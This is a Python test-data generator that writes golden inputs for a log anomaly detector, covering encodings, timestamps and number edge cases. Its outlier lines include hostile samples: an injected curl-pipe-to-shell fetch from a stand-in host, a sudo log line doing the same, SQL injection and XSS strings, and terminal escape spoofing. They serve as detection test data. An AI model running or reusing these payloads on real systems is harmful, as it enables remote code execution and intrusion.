#!/usr/bin/env python3
"""Generate the golden-test inputs in tests/golden/ (NAME.log|NAME.jsonl + NAME.args).

Deterministic: fixed seeds, no clock, bytes written exactly (line endings and invalid
UTF-8 are deliberate). The expected outputs (NAME.expected.jsonl) are produced from
these inputs by scripts/regen-golden.sh with the reference implementation.

Determinism rule for JSON-lines inputs: an event whose timestamp is missing or
unparseable gets "now", which makes the inter-arrival metric of its source depend on
the clock. So in every jsonl case, each source that has >= 2 events has parseable
timestamps on all of them; untimed / invalid / non-object lines live in sources with a
single event, or (jsonl_junk) in a run with `--shard-by none --max-sources 1` whose
inter-arrival map is already full with the timed source "clock" when they arrive.

Usage: scripts/gen-golden-inputs.py [--out tests/golden]
"""

from __future__ import annotations

import argparse
import json
import math
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SEED = 20261127

CASES: dict = {}  # name -> (ext, bytes, args)


def case(name: str, ext: str, data: bytes, args: str) -> None:
    assert name not in CASES, name
    CASES[name] = (ext, data, args)


def jdump(obj) -> str:
    """json.dumps, keeping non-ASCII as UTF-8 (the reader decodes it back)."""
    return json.dumps(obj, ensure_ascii=False, allow_nan=True)


# --------------------------------------------------------------------------- text logs

USERS = ["alice", "bob", "carol", "dave", "erin", "mallory", "trent", "peggy"]
PATHS = ["/api/v1/orders", "/api/v1/users", "/login", "/healthz", "/static/app.js", "/search"]
LEVELS = ["INFO", "INFO", "INFO", "DEBUG", "WARN"]


def num(rng: random.Random) -> str:
    """Numbers of varying length: 1 to 19 digits, sometimes negative / decimal / hex."""
    k = rng.random()
    if k < 0.5:
        return str(rng.randint(0, 10 ** rng.randint(1, 6)))
    if k < 0.7:
        return f"{rng.uniform(0, 10 ** rng.randint(0, 4)):.{rng.randint(1, 4)}f}"
    if k < 0.8:
        return str(-rng.randint(1, 10 ** rng.randint(1, 9)))
    if k < 0.9:
        return f"0x{rng.getrandbits(rng.choice([16, 32, 64])):x}"
    return str(rng.randint(10 ** 12, 10 ** 19))


def app_line(rng: random.Random, i: int) -> str:
    t = f"2026-03-{1 + i // 86400 % 28:02d}T{i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}.{rng.randint(0, 999):03d}Z"
    k = rng.random()
    if k < 0.3:
        return (f"{t} {rng.choice(LEVELS)} [http-{rng.randint(1, 64)}] GET {rng.choice(PATHS)}?id={num(rng)} "
                f"status={rng.choice([200, 200, 200, 201, 304, 404])} bytes={num(rng)} took={rng.randint(1, 90)}ms")
    if k < 0.5:
        return f"{t} INFO [worker-{rng.randint(1, 8)}] processed job {num(rng)} for {rng.choice(USERS)} in {rng.randint(5, 400)}ms"
    if k < 0.65:
        return f"{t} DEBUG [db] query ok rows={num(rng)} elapsed={rng.uniform(0.1, 30):.2f}ms"
    if k < 0.8:
        return f"{t} INFO [auth] user {rng.choice(USERS)} logged in from 10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    if k < 0.9:
        return f"{t} WARN [cache] miss ratio {rng.uniform(0, 1):.3f} over last {rng.randint(10, 10000)} lookups"
    return f"{t} INFO [gc] pause {rng.uniform(0.1, 50):.1f}ms heap {rng.randint(100, 4000)}M/{rng.choice([4096, 8192])}M"


def spike_line(rng: random.Random, i: int) -> str:
    """A clear outlier in length and/or token count (or in the semantic sense)."""
    k = rng.random()
    if k < 0.3:
        return "2026-03-01T00:00:00.000Z ERROR [http] request header too large: " + "&".join(
            f"k{j}={num(rng)}" for j in range(rng.randint(40, 150)))
    if k < 0.5:
        return "x"
    if k < 0.7:
        return "java.lang.NullPointerException: " + " ".join(
            f"at com.example.Svc{j}.call(Svc{j}.java:{rng.randint(1, 999)})" for j in range(rng.randint(10, 30)))
    if k < 0.85:
        return "GET /cgi-bin/status?cmd=;curl%20http://198.51.100.7/x.sh|sh;" + "A" * rng.randint(200, 800)
    return "   " + "\t" * rng.randint(1, 5) + "?"


def text_corpus(rng: random.Random, n: int, spike_every: int = 37) -> list:
    lines = []
    for i in range(n):
        if i > 40 and rng.random() < 1.0 / spike_every:
            lines.append(spike_line(rng, i))
        else:
            lines.append(app_line(rng, i))
    return lines


def lf(lines, final_newline=True) -> bytes:
    data = "\n".join(lines)
    return (data + ("\n" if final_newline else "")).encode("utf-8")


def gen_text_basic():
    rng = random.Random(SEED + 1)
    case("text_basic", "log", lf(text_corpus(rng, 500, spike_every=25)), "")


def gen_text_ewma():
    rng = random.Random(SEED + 2)
    lines = text_corpus(rng, 450, spike_every=20)
    # a slow drift in line length that a stationary baseline would flag but EWMA follows
    for i in range(200, 400):
        lines[i] = lines[i] + " pad=" + "p" * ((i - 200) // 2)
    case("text_ewma", "log", lf(lines), "--detector ewma --alpha 0.1 --shard-by none")


def gen_text_mad():
    rng = random.Random(SEED + 3)
    case("text_mad", "log", lf(text_corpus(rng, 500, spike_every=30)), "--detector mad --window 64")


SEMANTIC_NOVEL = [
    "kernel: Out of memory: Killed process 4242 (java) total-vm:12345678kB, anon-rss:9876543kB",
    "sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'curl 198.51.100.7|sh'",
    "Σ ΠΑΝΙΚΟΣ ΣΥΣΤΗΜΑΤΟΣ: ΑΠΟΤΥΧΙΑ ΔΙΣΚΟΥ ΣΤΟ ΤΜΗΜΑ 7",
    "ﾊﾟﾆｯｸ: ディスク障害が発生しました",
    "segfault at 0000000000000010 ip 00007f3a2b1c9d40 sp 00007ffd5e8f1a30 error 4 in libc.so.6",
    "DROP TABLE users; -- ' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
    "İSTANBUL DİSK ARIZASI — ŞİMDİ",
    "CERTIFICATE VERIFY FAILED: self signed certificate in certificate chain",
]


def gen_text_semantic():
    rng = random.Random(SEED + 4)
    lines = []
    for i in range(600):
        if i > 60 and rng.random() < 0.04:
            lines.append(rng.choice(SEMANTIC_NOVEL))
        else:
            lines.append(app_line(rng, i))
    case("text_semantic", "log", lf(lines), "--semantic")


def gen_text_cr_mix():
    """Lone CR, CRLF and LF mixed; CR CR; CR LF LF; blank lines; no final newline."""
    rng = random.Random(SEED + 5)
    lines = text_corpus(rng, 450, spike_every=20)
    seps = [b"\n", b"\r\n", b"\r", b"\r\r", b"\r\n\r\n", b"\n\n", b"\r\n\n", b"\n\r", b"\r\r\n"]
    out = bytearray()
    for i, line in enumerate(lines):
        out += line.encode("utf-8")
        if i == len(lines) - 1:
            break  # last line without newline
        out += seps[0] if i < 20 else rng.choice(seps)
    case("text_cr_mix", "log", bytes(out), "--warmup 5")


INVALID_SEQS = [
    b"\xff", b"\xfe", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf",  # overlongs
    b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80",  # surrogates (single, pair)
    b"\xe2\x82", b"\xf0\x9f\x98", b"\xc3", b"\xe3\x81",  # truncated sequences
    b"\x80", b"\xbf", b"\x80\x80\x80", b"\xa0\xa1",  # stray continuation bytes
    b"\xf4\x90\x80\x80", b"\xf5\x80\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80",
    b"\xe0\xa0", b"\xf0\x90\x80",  # truncated but otherwise valid prefixes
]


def gen_text_invalid_utf8():
    rng = random.Random(SEED + 6)
    out = bytearray(b"\xef\xbb\xbfBOM first line: byte order mark kept as U+FEFF\n")
    for i in range(500):
        line = app_line(rng, i).encode("utf-8")
        if i > 30 and rng.random() < 0.35:
            parts = line.split(b" ")
            for _ in range(rng.randint(1, 4)):
                parts.insert(rng.randrange(len(parts) + 1), rng.choice(INVALID_SEQS))
            joiner = rng.choice([b" ", b""])
            line = joiner.join(parts)
        if i > 40 and rng.random() < 0.04:
            line = b"\x80" * rng.randint(60, 200)  # length outlier made only of replacements
        if i % 97 == 50:
            line = line + b"\xe2\x82"  # truncated sequence right before the newline
        out += line + (b"\r\n" if i % 5 == 0 else b"\n")
    out += b"last line ends in a truncated sequence \xf0\x9f\x98"  # at EOF, no newline
    case("text_invalid_utf8", "log", bytes(out), "--semantic")


UNICODE_LINES = [
    "用户 {u} 登录成功，耗时 {n} 毫秒",
    "数据库连接池已满：活动连接 {n}，等待队列 {m}",
    "ユーザー{u}のセッションが期限切れになりました（{n}秒）",
    "사용자 {u} 로그인 실패 횟수 {n}",
    "تم تسجيل دخول المستخدم {u} بنجاح خلال {n} مللي ثانية",
    "फ़ाइल {n} सफलतापूर्वक अपलोड की गई — उपयोगकर्ता {u}",
    "हिन्दी संदेश: प्रक्रिया {n} समाप्त",
    "ผู้ใช้ {u} เข้าสู่ระบบสำเร็จ ใช้เวลา {n} มิลลิวินาที",
    "Пользователь {u} вошёл в систему за {n} мс",
    "ΣΦΑΛΜΑ ΔΙΚΤΥΟΥ: ΟΔΟΣ {n} ΜΗ ΔΙΑΘΕΣΙΜΗ ΣΕ ΣΥΣΤΗΜΑΣ",
    "Ο χρήστης {u} συνδέθηκε· ΟΔΥΣΣΕΥΣ ΣΣ Σ.",
    "café naïve coöperate résumé {n} — e\u0301 a\u0308 o\u0302\u0323 Z\u0324\u0308\u0301",
    "emoji {u} 🚀🔥 👩\u200d👩\u200d👧 🇯🇵 👍🏽 {n} ✔︎",
    "İstanbul ışık ĞÜŞİÖÇ ß ẞ ﬁle ǅ {n}",
    "fullwidth ＡＢＣ１２３ and digits ١٢٣ ४५६ ๗๘๙ ½ ² {n}",
    "mixed עברית {u} русский 中文 {n} ελληνικά",
]


def gen_text_unicode():
    rng = random.Random(SEED + 7)
    lines = []
    for i in range(500):
        if rng.random() < 0.55:
            lines.append(app_line(rng, i))
        else:
            tpl = rng.choice(UNICODE_LINES)
            lines.append(tpl.format(u=rng.choice(USERS), n=num(rng), m=rng.randint(0, 99)))
        if i > 50 and rng.random() < 0.03:
            k = rng.random()
            if k < 0.3:
                lines.append("Z" + "\u0336\u0335\u0334\u0321\u0322\u0327" * rng.randint(20, 60))  # zalgo
            elif k < 0.6:
                lines.append("😀" * rng.randint(30, 120))
            else:
                lines.append("漢字" * rng.randint(50, 200))
    case("text_unicode", "log", lf(lines), "--semantic --detector mad --window 64")


CONTROL_BITS = [
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1c", "\x1d", "\x1e", "\x1f", "\x7f",
    "\x85", "\x9b", "\u2028", "\u2029", "\x1b[31m", "\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;pwned\x07",
    "\x1b[1;32mOK\x1b[0m", "\x00\x00\x00",
]


def gen_text_controls():
    rng = random.Random(SEED + 8)
    out = []
    for i in range(550):
        line = app_line(rng, i)
        if rng.random() < 0.3:
            parts = line.split(" ")
            for _ in range(rng.randint(1, 3)):
                parts.insert(rng.randrange(len(parts) + 1), rng.choice(CONTROL_BITS))
            line = " ".join(parts)
        if rng.random() < 0.05:
            line = rng.choice(["", "", " ", "\t", "   \t  ", "\x0c", "\x00", "\x1b[0m"])  # blank-ish
        if i > 40 and rng.random() < 0.025:
            line = "\x1b[31m" + "\x00" * rng.randint(40, 150) + "\x1b[0m"
        out.append(line)
    case("text_controls", "log", lf(out, final_newline=False), "--warmup 0")


def loghub_slice(name: str, start: int, count: int) -> bytes:
    """Records [start, start+count) of a Loghub file, keeping its CRLF endings; the
    slice, like the upstream file, has no newline after its last record."""
    data = (ROOT / "datasets" / "loghub" / name).read_bytes()
    recs = data.split(b"\r\n")
    if recs and recs[-1] == b"":
        recs.pop()
    return b"\r\n".join(recs[start:start + count])


def gen_loghub():
    case("loghub_apache_crlf", "log", loghub_slice("Apache_2k.log", 0, 600), "--threshold 2.5")
    case("loghub_linux_semantic", "log", loghub_slice("Linux_2k.log", 200, 500),
         "--semantic --detector ewma --alpha 0.1 --threshold 2.5")
    case("loghub_bgl_mad", "log", loghub_slice("BGL_2k.log", 0, 300), "--detector mad --window 64 --warmup 5")


# --------------------------------------------------------------------------- JSON lines

def iso(t: float) -> str:
    """An aware ISO-8601 string with Z for epoch seconds t (microsecond precision)."""
    from datetime import datetime, timezone
    return datetime.fromtimestamp(t, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def gen_jsonl_multi():
    """Four sources + a timed default-source stream with different scales and rates.
    The same input is run sharded by source and unsharded: the outputs must differ."""
    rng = random.Random(SEED + 20)
    specs = {
        "web": (0.5, 40.0, 5.0, 3000),
        "db": (2.0, 8.0, 1.0, 200),
        "auth": (1.0, 120.0, 15.0, 500),
        "cache": (0.2, 1.5, 0.3, 64),
        None: (5.0, 300.0, 40.0, 10000),  # no "source" key -> file name
    }
    clocks = {k: 1_780_000_000.0 + i for i, k in enumerate(specs)}
    lines = []
    for i in range(320):
        src = rng.choices(list(specs), [40, 20, 15, 20, 5])[0]
        gap, lat, sd, size = specs[src]
        dt = rng.expovariate(1.0 / gap)
        if src == "auth" and 200 <= i < 240:
            dt = rng.uniform(0.0001, 0.002)  # a login burst
        if src == "db" and i == 260:
            dt = 900.0  # a stall
        clocks[src] += dt
        latency = max(0.1, rng.gauss(lat, sd))
        if rng.random() < 0.05:
            latency *= rng.uniform(5, 30)
        obj = {"timestamp": iso(clocks[src])}
        if src is not None:
            obj["source"] = src
        obj["message"] = f"{src or 'app'} request {num(rng)} handled" + (" slowly" if latency > lat * 3 else "")
        obj["latency_ms"] = round(latency, 3)
        obj["bytes"] = int(rng.lognormvariate(math.log(size), 0.3))
        if src == "web":
            obj["status"] = rng.choice([200, 200, 200, 200, 404, 500])
        lines.append(jdump(obj))
    data = lf(lines)
    case("jsonl_multi_source", "jsonl", data, "--jsonl --warmup 10 --threshold 2.5")
    case("jsonl_multi_none", "jsonl", data, "--jsonl --shard-by none --warmup 10 --threshold 2.5")


def gen_jsonl_max_sources():
    """8 sources, --max-sources 3: svc-0..2 get shards, svc-3..7 share the overflow shard,
    whose inter-arrival map holds only svc-3..5."""
    rng = random.Random(SEED + 21)
    n_src = 8
    clocks = [1_790_000_000.0 + 0.25 * k for k in range(n_src)]
    lines = []
    for i in range(450):
        k = i if i < n_src else rng.randrange(n_src)
        clocks[k] += rng.expovariate(1.0 / (0.5 + k))
        if rng.random() < 0.01:
            clocks[k] += rng.uniform(60, 600)
        scale = 10.0 * (k + 1)
        value = rng.gauss(scale, scale / 10)
        if rng.random() < 0.06:
            value *= rng.uniform(3, 8)
        if k % 2:
            ts = round(clocks[k], 6)  # epoch float
        else:
            ts = iso(clocks[k]) if k % 4 == 0 else iso(clocks[k])[:-1] + "+00:00"
        obj = {"source": f"svc-{k}", "timestamp": ts,
               "message": f"svc-{k} op={rng.choice(['get', 'put', 'list'])} n={rng.randint(0, 10 ** (k % 5 + 1))}",
               "latency_ms": round(value, 4), "queue": rng.randint(0, 5 + 3 * k)}
        lines.append(jdump(obj))
    case("jsonl_max_sources", "jsonl", lf(lines), "--jsonl --max-sources 3 --warmup 10")


# Timestamp forms. VALID ones are parsed by the reference (fromtimestamp / fromisoformat
# after replacing "Z") and their .timestamp() works with TZ=UTC; INVALID ones fall back
# to "now". gen_jsonl_timestamps() asserts this split against the reference if present.
TS_VALID = [
    0, 1, -1, 1_700_000_000, -86_400, 253_402_300_799, -62_135_596_800,
    1_700_000_000.5, 1_700_000_000.123456, 1_700_000_000.1234567, 1_700_000_000.0000005,
    1e-7, 5e-7, 1.5e-6, 2.5e-6, -1.5e-6, -1.5, -0.0, 1.7e9, 1234567890.987654,
    "2024-01-02T03:04:05Z", "2024-01-02T03:04:05.123456Z", "2024-01-02T03:04:05.123Z",
    "2024-01-02T03:04:05.1234567Z", "2024-01-02T03:04:05,5Z", "2024-01-02T03:04:05.Z",
    "2024-01-02T03:04:05+05:30", "2024-01-02T03:04:05-08:00", "2024-01-02T03:04:05+00:00",
    "2024-01-02T03:04:05-00:00", "2024-01-02T03:04:05+0530", "2024-01-02T03:04:05+05",
    "2024-01-02T03:04:05+05:30:15", "2024-01-02T03:04:05+05:30:15.123456",
    "2024-01-02T03:04:05+23:59", "2024-01-02T03:04:05 +05:00", "2024-01-02T03:04:05 Z", "2024-01-02 03:04:05",
    "2024-01-02T03:04:05", "2024-01-02T03:04", "2024-01-02T03", "2024-01-02", "20240102",
    "20240102T030405", "20240102T030405Z", "20240102T030405.123Z", "20240102T03",
    "2024-W01", "2024-W01-1", "2024W011", "2020-W53-7", "2024-02-29T00:00:00Z",
    "2024-01-02é03:04:05", "2024-01-02\U0001F60003:04:05", "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59-23:59",
    "1969-07-20T20:17:40Z", "2038-01-19T03:14:08Z",
]
TS_INVALID = [
    "garbage", "", "now", "1700000000", "170000", "T03:04:05", "03:04:05", "2024-01-02T03:04:05z",
    "2024-W53-7", "2024-001", "2024-13-01", "2023-02-29T00:00:00Z", "2024-01-02T24:00:00",
    "2024-01-02T23:59:60", "2024-01-02T03:04:05+24:00", "2024-01-02T03:04:05ZZ",
    " 2024-01-02", "２０２４-01-02", "10000-01-01",
    None, True, False, {"a": 1}, [1_700_000_000], 253_402_300_800, -62_135_596_801,
    2 ** 63, 10 ** 30, 1e30, -1e30, 1e308, float("nan"), float("inf"), float("-inf"),
]


def check_timestamp_forms() -> None:
    try:
        import os
        import time
        os.environ["TZ"] = "UTC"
        time.tzset()
        from trace_sentinel.sources import _parse_timestamp
    except ImportError:
        return
    for v in TS_VALID:
        r = _parse_timestamp(v)
        assert r is not None, f"expected valid: {v!r}"
        r.timestamp()
    for v in TS_INVALID:
        assert _parse_timestamp(v) is None, f"expected invalid: {v!r}"


def gen_jsonl_timestamps():
    """Every timestamp form rides on an outlier of attr.v so it shows up in the output.
    Valid forms: source "clock" (all timed). Invalid forms: one single-event source
    each. Unsharded, MAD (robust: every spike is flagged)."""
    check_timestamp_forms()
    rng = random.Random(SEED + 22)
    t = 1_750_000_000.0
    lines = []
    forms = [(v, True) for v in TS_VALID] + [(v, False) for v in TS_INVALID]
    rng.shuffle(forms)
    for j, (form, valid) in enumerate(forms):
        for _ in range(3):
            t += rng.uniform(0.5, 1.5)
            lines.append(jdump({"timestamp": round(t, 6), "source": "clock", "message": "tick ok",
                                "v": round(rng.gauss(10, 1), 3)}))
        obj = {"timestamp": form, "source": "clock" if valid else f"bad-ts-{j}",
               "message": f"form {j}", "v": 1000 + j}
        lines.append(jdump(obj))
    # a missing timestamp key (single-event source)
    lines.append(jdump({"source": "no-ts", "message": "no timestamp key", "v": 5000}))
    for _ in range(5):
        t += 1.0
        lines.append(jdump({"timestamp": round(t, 6), "source": "clock", "message": "tick ok", "v": 10}))
    case("jsonl_timestamps", "jsonl", lf(lines), "--jsonl --shard-by none --detector mad --window 64 --warmup 5")


def gen_jsonl_attrs():
    """Numeric attribute edge cases; odd keys; odd and non-string sources."""
    rng = random.Random(SEED + 23)
    sources = ["metrics", "\x1b[2J\x1b[Hspoof", "nul\x00src", 123, "123", None, True, [1, "a"],
               {"k": "v"}, "", "Σίσυφος", "\x1b[31mred\x1b[0m\x07"]
    clocks = {json.dumps(s): 1_760_000_000.0 + i for i, s in enumerate(sources)}
    lines = []
    odd_keys = ["", "\x00k", "\x1b[31mred\x1b[0m", "延迟", "attr.x", "Message", "a b", "\u200b", "\ud7ff"]
    for i in range(200):
        src = sources[i % len(sources)] if i < 2 * len(sources) else rng.choice(sources)
        key = json.dumps(src)
        clocks[key] += rng.uniform(0.5, 2.0)
        spike = i > 60 and rng.random() < 0.06
        obj = {"timestamp": round(clocks[key], 6), "source": src, "message": f"sample {i}"}
        attrs = {
            "latency": round(rng.gauss(50, 5) * (rng.uniform(4, 9) if spike else 1), 3),
            "ok": rng.random() < 0.5, "flag": True, "name": "x", "n": None,
            "nested": {"a": 1}, "list": [1, 2], "nan": float("nan"), "inf": float("inf"),
            "ninf": float("-inf"),
            "negzero": -0.0 if spike else round(rng.gauss(100, 2), 2),
            "intzero": 0 if spike else rng.randint(40, 60),
            "huge_int": 123456789012345678901234567890 + rng.randint(0, 10 ** 15) * 10 ** 14,
            "tiny": 5e-324 * rng.randint(1, 3),
            "round6": round(rng.uniform(0.1, 0.2), 7) if not spike else 0.1234565,
            "max": 1.7976931348623157e308 if rng.random() < 0.02 else 1e300,
        }
        if i == 120:
            attrs["upbig"] = 1.7e308
        elif i == 170:
            attrs["dnbig"] = -1.7e308
        else:
            attrs["upbig"] = round(rng.gauss(0, 0.1), 4)
            attrs["dnbig"] = round(rng.gauss(0, 0.1), 4)
        keys = list(attrs)
        if rng.random() < 0.3:
            rng.shuffle(keys)  # attribute (metric) order varies per event
        for k in keys:
            obj[k] = attrs[k]
        for k in rng.sample(odd_keys, 3):
            obj[k] = round(rng.gauss(7, 1) * (20 if rng.random() < 0.08 else 1), 3)
        line = jdump(obj)
        if rng.random() < 0.1:
            # duplicate keys: the last value wins, the first position stays
            line = line[:-1] + f', "latency": {round(rng.gauss(50, 5) * 30, 3)}, "message": "dup {i}"}}'
        if rng.random() < 0.05:
            line = line[:-1] + ', "big_lit": 1e999, "nlit": -1E+999, "zero_lit": -0, "exp": 12e-3}'
        lines.append(line)
    case("jsonl_attrs", "jsonl", lf(lines), "--jsonl --warmup 5")


def gen_jsonl_junk():
    """Non-object JSON, invalid JSON, unicode whitespace, blank lines, CRLF/CR, invalid
    UTF-8 — all in one shard (--shard-by none) whose inter-arrival map holds only the
    first source seen, "clock" (--max-sources 1), so untimed lines stay deterministic."""
    rng = random.Random(SEED + 24)
    junk = [
        "[1, 2, 3]", '["a", "b\'c", "d\\"e", "é", "\\u0000", "\\u200b", "😀"]', '"just a string"',
        '"line with \\"quotes\\" and \\\\ backslash"', "42", "-0", "-0.0", "1e999", "-1e999", "NaN",
        "Infinity", "-Infinity", "null", "true", "false", "3.14", "1e16", "1E-7", "123456789012345678901234567890",
        "{bad json", "{'single': 'quotes'}", '{"a": 1,}', '{"a": 1} trailing', "{a: 1}", "[1, 2",
        '{"message": "tab\tinside"}', '{"message": "nul\x00inside"}', "nope", "}{", "[]", "{}",
        '[{"k": [1.5, {"z": null}]}, true, null, -0.0, 1e300]', '{"message": "ok"} {"message": "two"}',
        "NaNa", "[NaN, Infinity, -Infinity]", '"\\ud83d\\ude00 pair"', '"\\ud800 lone"',
        "0x1F", "01", "+1", ".5", "1.", "--1", '"\\x41"', '"\\u00"', "tru", "nul",
        '{"message": 1e400, "source": "numsrc"}', '{"message": ["x", 1], "source": null}',
    ]
    ws = [" ", "\t", "\u3000", "\u00a0", "\x1c", "\x1d", "\x1e", "\x1f", "\x85", "\u2028", "\u2029",
          "\u200a", "\x0b", "\x0c", "\u1680", "\u202f", "\u205f"]
    t = 1_770_000_000.0
    out = bytearray()
    nl = [b"\n", b"\n", b"\r\n", b"\r"]
    for i in range(800):
        r = rng.random()
        if i < 40 or r < 0.55:
            t += rng.uniform(0.2, 1.0)
            line = jdump({"timestamp": round(t, 6), "source": "clock", "message": f"tick {num(rng)}",
                          "v": round(rng.gauss(20, 2), 2)}).encode()
            if rng.random() < 0.1:
                line = (rng.choice(ws) + rng.choice(ws)).encode() + line + rng.choice(ws).encode()
        elif r < 0.8:
            line = rng.choice(junk).encode()
        elif r < 0.86:
            line = "".join(rng.choice(ws) for _ in range(rng.randint(0, 4))).encode()  # blank after strip
        elif r < 0.92:
            # untimed objects in other sources / the default source (not in the full map)
            obj = {"message": f"untimed {num(rng)}", "v": round(rng.gauss(20, 2) * (10 if rng.random() < 0.2 else 1), 2)}
            if rng.random() < 0.5:
                obj["source"] = rng.choice(["other", "default?", "x"])
            if rng.random() < 0.5:
                obj["timestamp"] = rng.choice(["garbage", None, {"t": 1}])
            line = jdump(obj).encode()
        elif r < 0.96:
            line = ('{"message": "bad utf8 ').encode() + rng.choice(INVALID_SEQS) + b' here", "v": 21}'
        else:
            line = b'{"message": "split by a lone CR",\r "v": 1}' if rng.random() < 0.5 else \
                rng.choice(junk).encode() * rng.randint(20, 60)  # long raw line
        out += line + rng.choice(nl)
    out += b'{"message": "last line, no newline", "v": 20}'
    case("jsonl_junk", "jsonl", bytes(out), "--jsonl --shard-by none --max-sources 1")


# JSON text of string bodies (escapes are JSON escapes, written verbatim into the line)
ESC_MESSAGES = [
    r"caf\u00e9", r"smile \ud83d\ude00", r"lone high \ud800 here", r"lone low \udfff",
    r"nul \u0000 byte", r"newline\nand\ttab\r", r"quote \" backslash \\ slash \/",
    r"line sep \u2028 para \u2029", r"zero width \u200b joiner \u200d", r"bom \ufeff",
    r"esc \u001b[31mred\u001b[0m", r"del \u007f c1 \u0085\u009b", r"reversed pair \ude00\ud83d",
    r"high high \ud83d\ud83d\ude00", r"\u00ff\u0100\uffff\ufffe", r"\u0130stanbul \u03a3\u039f\u03a3",
]
# JSON texts of non-string message values (Python str() of the parsed value)
ESC_RAW_MESSAGES = [
    "42", "-0", "-0.0", "1e16", "1e-05", "1.0", "123456789012345678901234567890", "true", "false",
    "null", r"""[1, "a'b", "c\"d", "\u00e9", "\u0000", "\u200b", "\ud800", "both ' and \""]""",
    r"""{"k": [1.5, {"z": null}], "t": true, "e": "", "q": "'"}""", "NaN", "Infinity", "-Infinity",
    "1E+2", "0.1", "100000000000000000000.0", "1e22", "5e-324", "[[], {}, [[]]]", '"plain"',
    r"""{"\u0000": "\u001f", "\ud800": "x", "\u00e9\u0301": "\u0085\u00a0\u00ad"}""", "2.5e-7",
    "[0.30000000000000004, 1e-7, 1.5e300, 1e16, 123456789.0, -0.0]",
    r"""["\u4e2d\u6587", "\u0627\u0644", "\ud83d\ude00", "\u0301", "\u2028", "\ue000"]""",
    "1.7976931348623157e308", "12345678901234567890123", "-1e-320",
]


def gen_jsonl_escapes():
    """JSON string escapes (incl. lone surrogates) and non-string messages (Python str()
    of the parsed value). Every tricky message rides on a spike so it is printed."""
    rng = random.Random(SEED + 25)
    lines = ['\ufeff{"message": "BOM line is invalid JSON for json.loads", "source": "bom"}']
    t = 1_765_000_000.0
    tricky = [("s", m) for m in ESC_MESSAGES] + [("raw", m) for m in ESC_RAW_MESSAGES]
    tricky = tricky * 2
    rng.shuffle(tricky)
    for kind, m in tricky:
        for _ in range(rng.randint(6, 10)):
            t += rng.uniform(0.5, 1.5)
            lines.append(jdump({"timestamp": round(t, 6), "source": "esc", "message": "normal line",
                                "lat": round(rng.gauss(10, 1), 3)}))
        t += rng.uniform(0.5, 1.5)
        msg = f'"{m}"' if kind == "s" else m  # already JSON text
        lines.append(f'{{"timestamp": {round(t, 6)}, "source": "esc", "message": {msg}, "lat": {100 + rng.randint(0, 50)}}}')
        # the same tricky value as a source (single-event source each) and as a key
        if rng.random() < 0.3:
            lines.append(f'{{"timestamp": {round(t, 6)}, "source": {msg}, "message": "src variant"}}')
    case("jsonl_escapes", "jsonl", lf(lines), "--jsonl --detector ewma --alpha 0.1 --threshold 2.5")


SEM_TEMPLATES = {
    "api": lambda rng: f"GET /api/v1/orders/{rng.randint(1, 99999)} status=200 took={rng.randint(1, 90)}ms",
    "worker": lambda rng: f"processed job {rng.randint(1, 10 ** 6)} for {rng.choice(USERS)} in {rng.randint(5, 400)}ms",
    "auth": lambda rng: f"user {rng.choice(USERS)} logged in from 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
}


def gen_jsonl_semantic():
    """Per-source homogeneous text with novel lines (several scripts) mixed in."""
    rng = random.Random(SEED + 26)
    srcs = list(SEM_TEMPLATES)
    clocks = {s: 1_780_500_000.0 + i for i, s in enumerate(srcs)}
    novel = SEMANTIC_NOVEL + [u.format(u="x", n=1, m=2) for u in UNICODE_LINES]
    lines = []
    for i in range(450):
        s = rng.choice(srcs)
        clocks[s] += rng.uniform(0.1, 2.0)
        if i > 100 and rng.random() < 0.08:
            msg = rng.choice(novel)
        else:
            msg = SEM_TEMPLATES[s](rng)
        obj = {"timestamp": iso(clocks[s]), "source": s, "message": msg,
               "ms": round(rng.lognormvariate(3, 0.3), 2)}
        lines.append(jdump(obj))
    case("jsonl_semantic", "jsonl", lf(lines), "--jsonl --semantic")


NUMBER_VALUES = [
    0.0000005, 2.5e-7, 1.0000005, 123456.1234565, 0.0001, 1e-5, 99950, 0.00099995, 999.5, 1.0005,
    9.995, 99.95, 0.15, 0.25, 0.35, 1e16, 1.5e16, 123456789.123456789, -0.0, 5e-324,
    2.2250738585072014e-308, 1e-7, 1e21, 1e22, 1.7976931348623157e308, -1e300, 0.1 + 0.2, 1 / 3,
    2 / 3, 1e-320, 4.35, 0.000123456, 1234567.5, 2.675, 1.45, 0.0000015, 0.0000025, 1e100,
    12345678901234567890, 0, -7, 2 ** 53 + 1,
]


def gen_jsonl_numbers():
    """Number formatting: round(value, 6), round(score, 3), '%.3g' and '%.1f' in the
    explanation, repr of floats — on values picked to hit ties, subnormals, huge and
    tiny magnitudes. MAD with a tiny window flags most of them."""
    rng = random.Random(SEED + 27)
    lines = []
    t = 1_700_000_000.0
    for i in range(160):
        t += 1
        v = rng.choice(NUMBER_VALUES) if i % 2 else rng.gauss(0, 1)
        w = rng.choice([1, 2, 3]) * 10 ** rng.randint(-8, 25)
        lines.append(jdump({"timestamp": t, "source": "fmt", "message": "x" * rng.randint(1, 30), "v": v, "w": w}))
    # near-zero spread, then huge / tiny jumps (scores overflow to +-inf, NaN is never flagged)
    for i in range(40):
        lines.append(jdump({"timestamp": 1_700_000_000 + i, "source": "tiny", "message": "m",
                            "v": 1 + (i % 2) * 1e-12, "u": [1e-300, 2e-300][i % 2], "z": 1e-310 * (i % 2)}))
    for j, v in enumerate([1e300, -1e300, 5, 1e10, 1e-5, 1e308]):
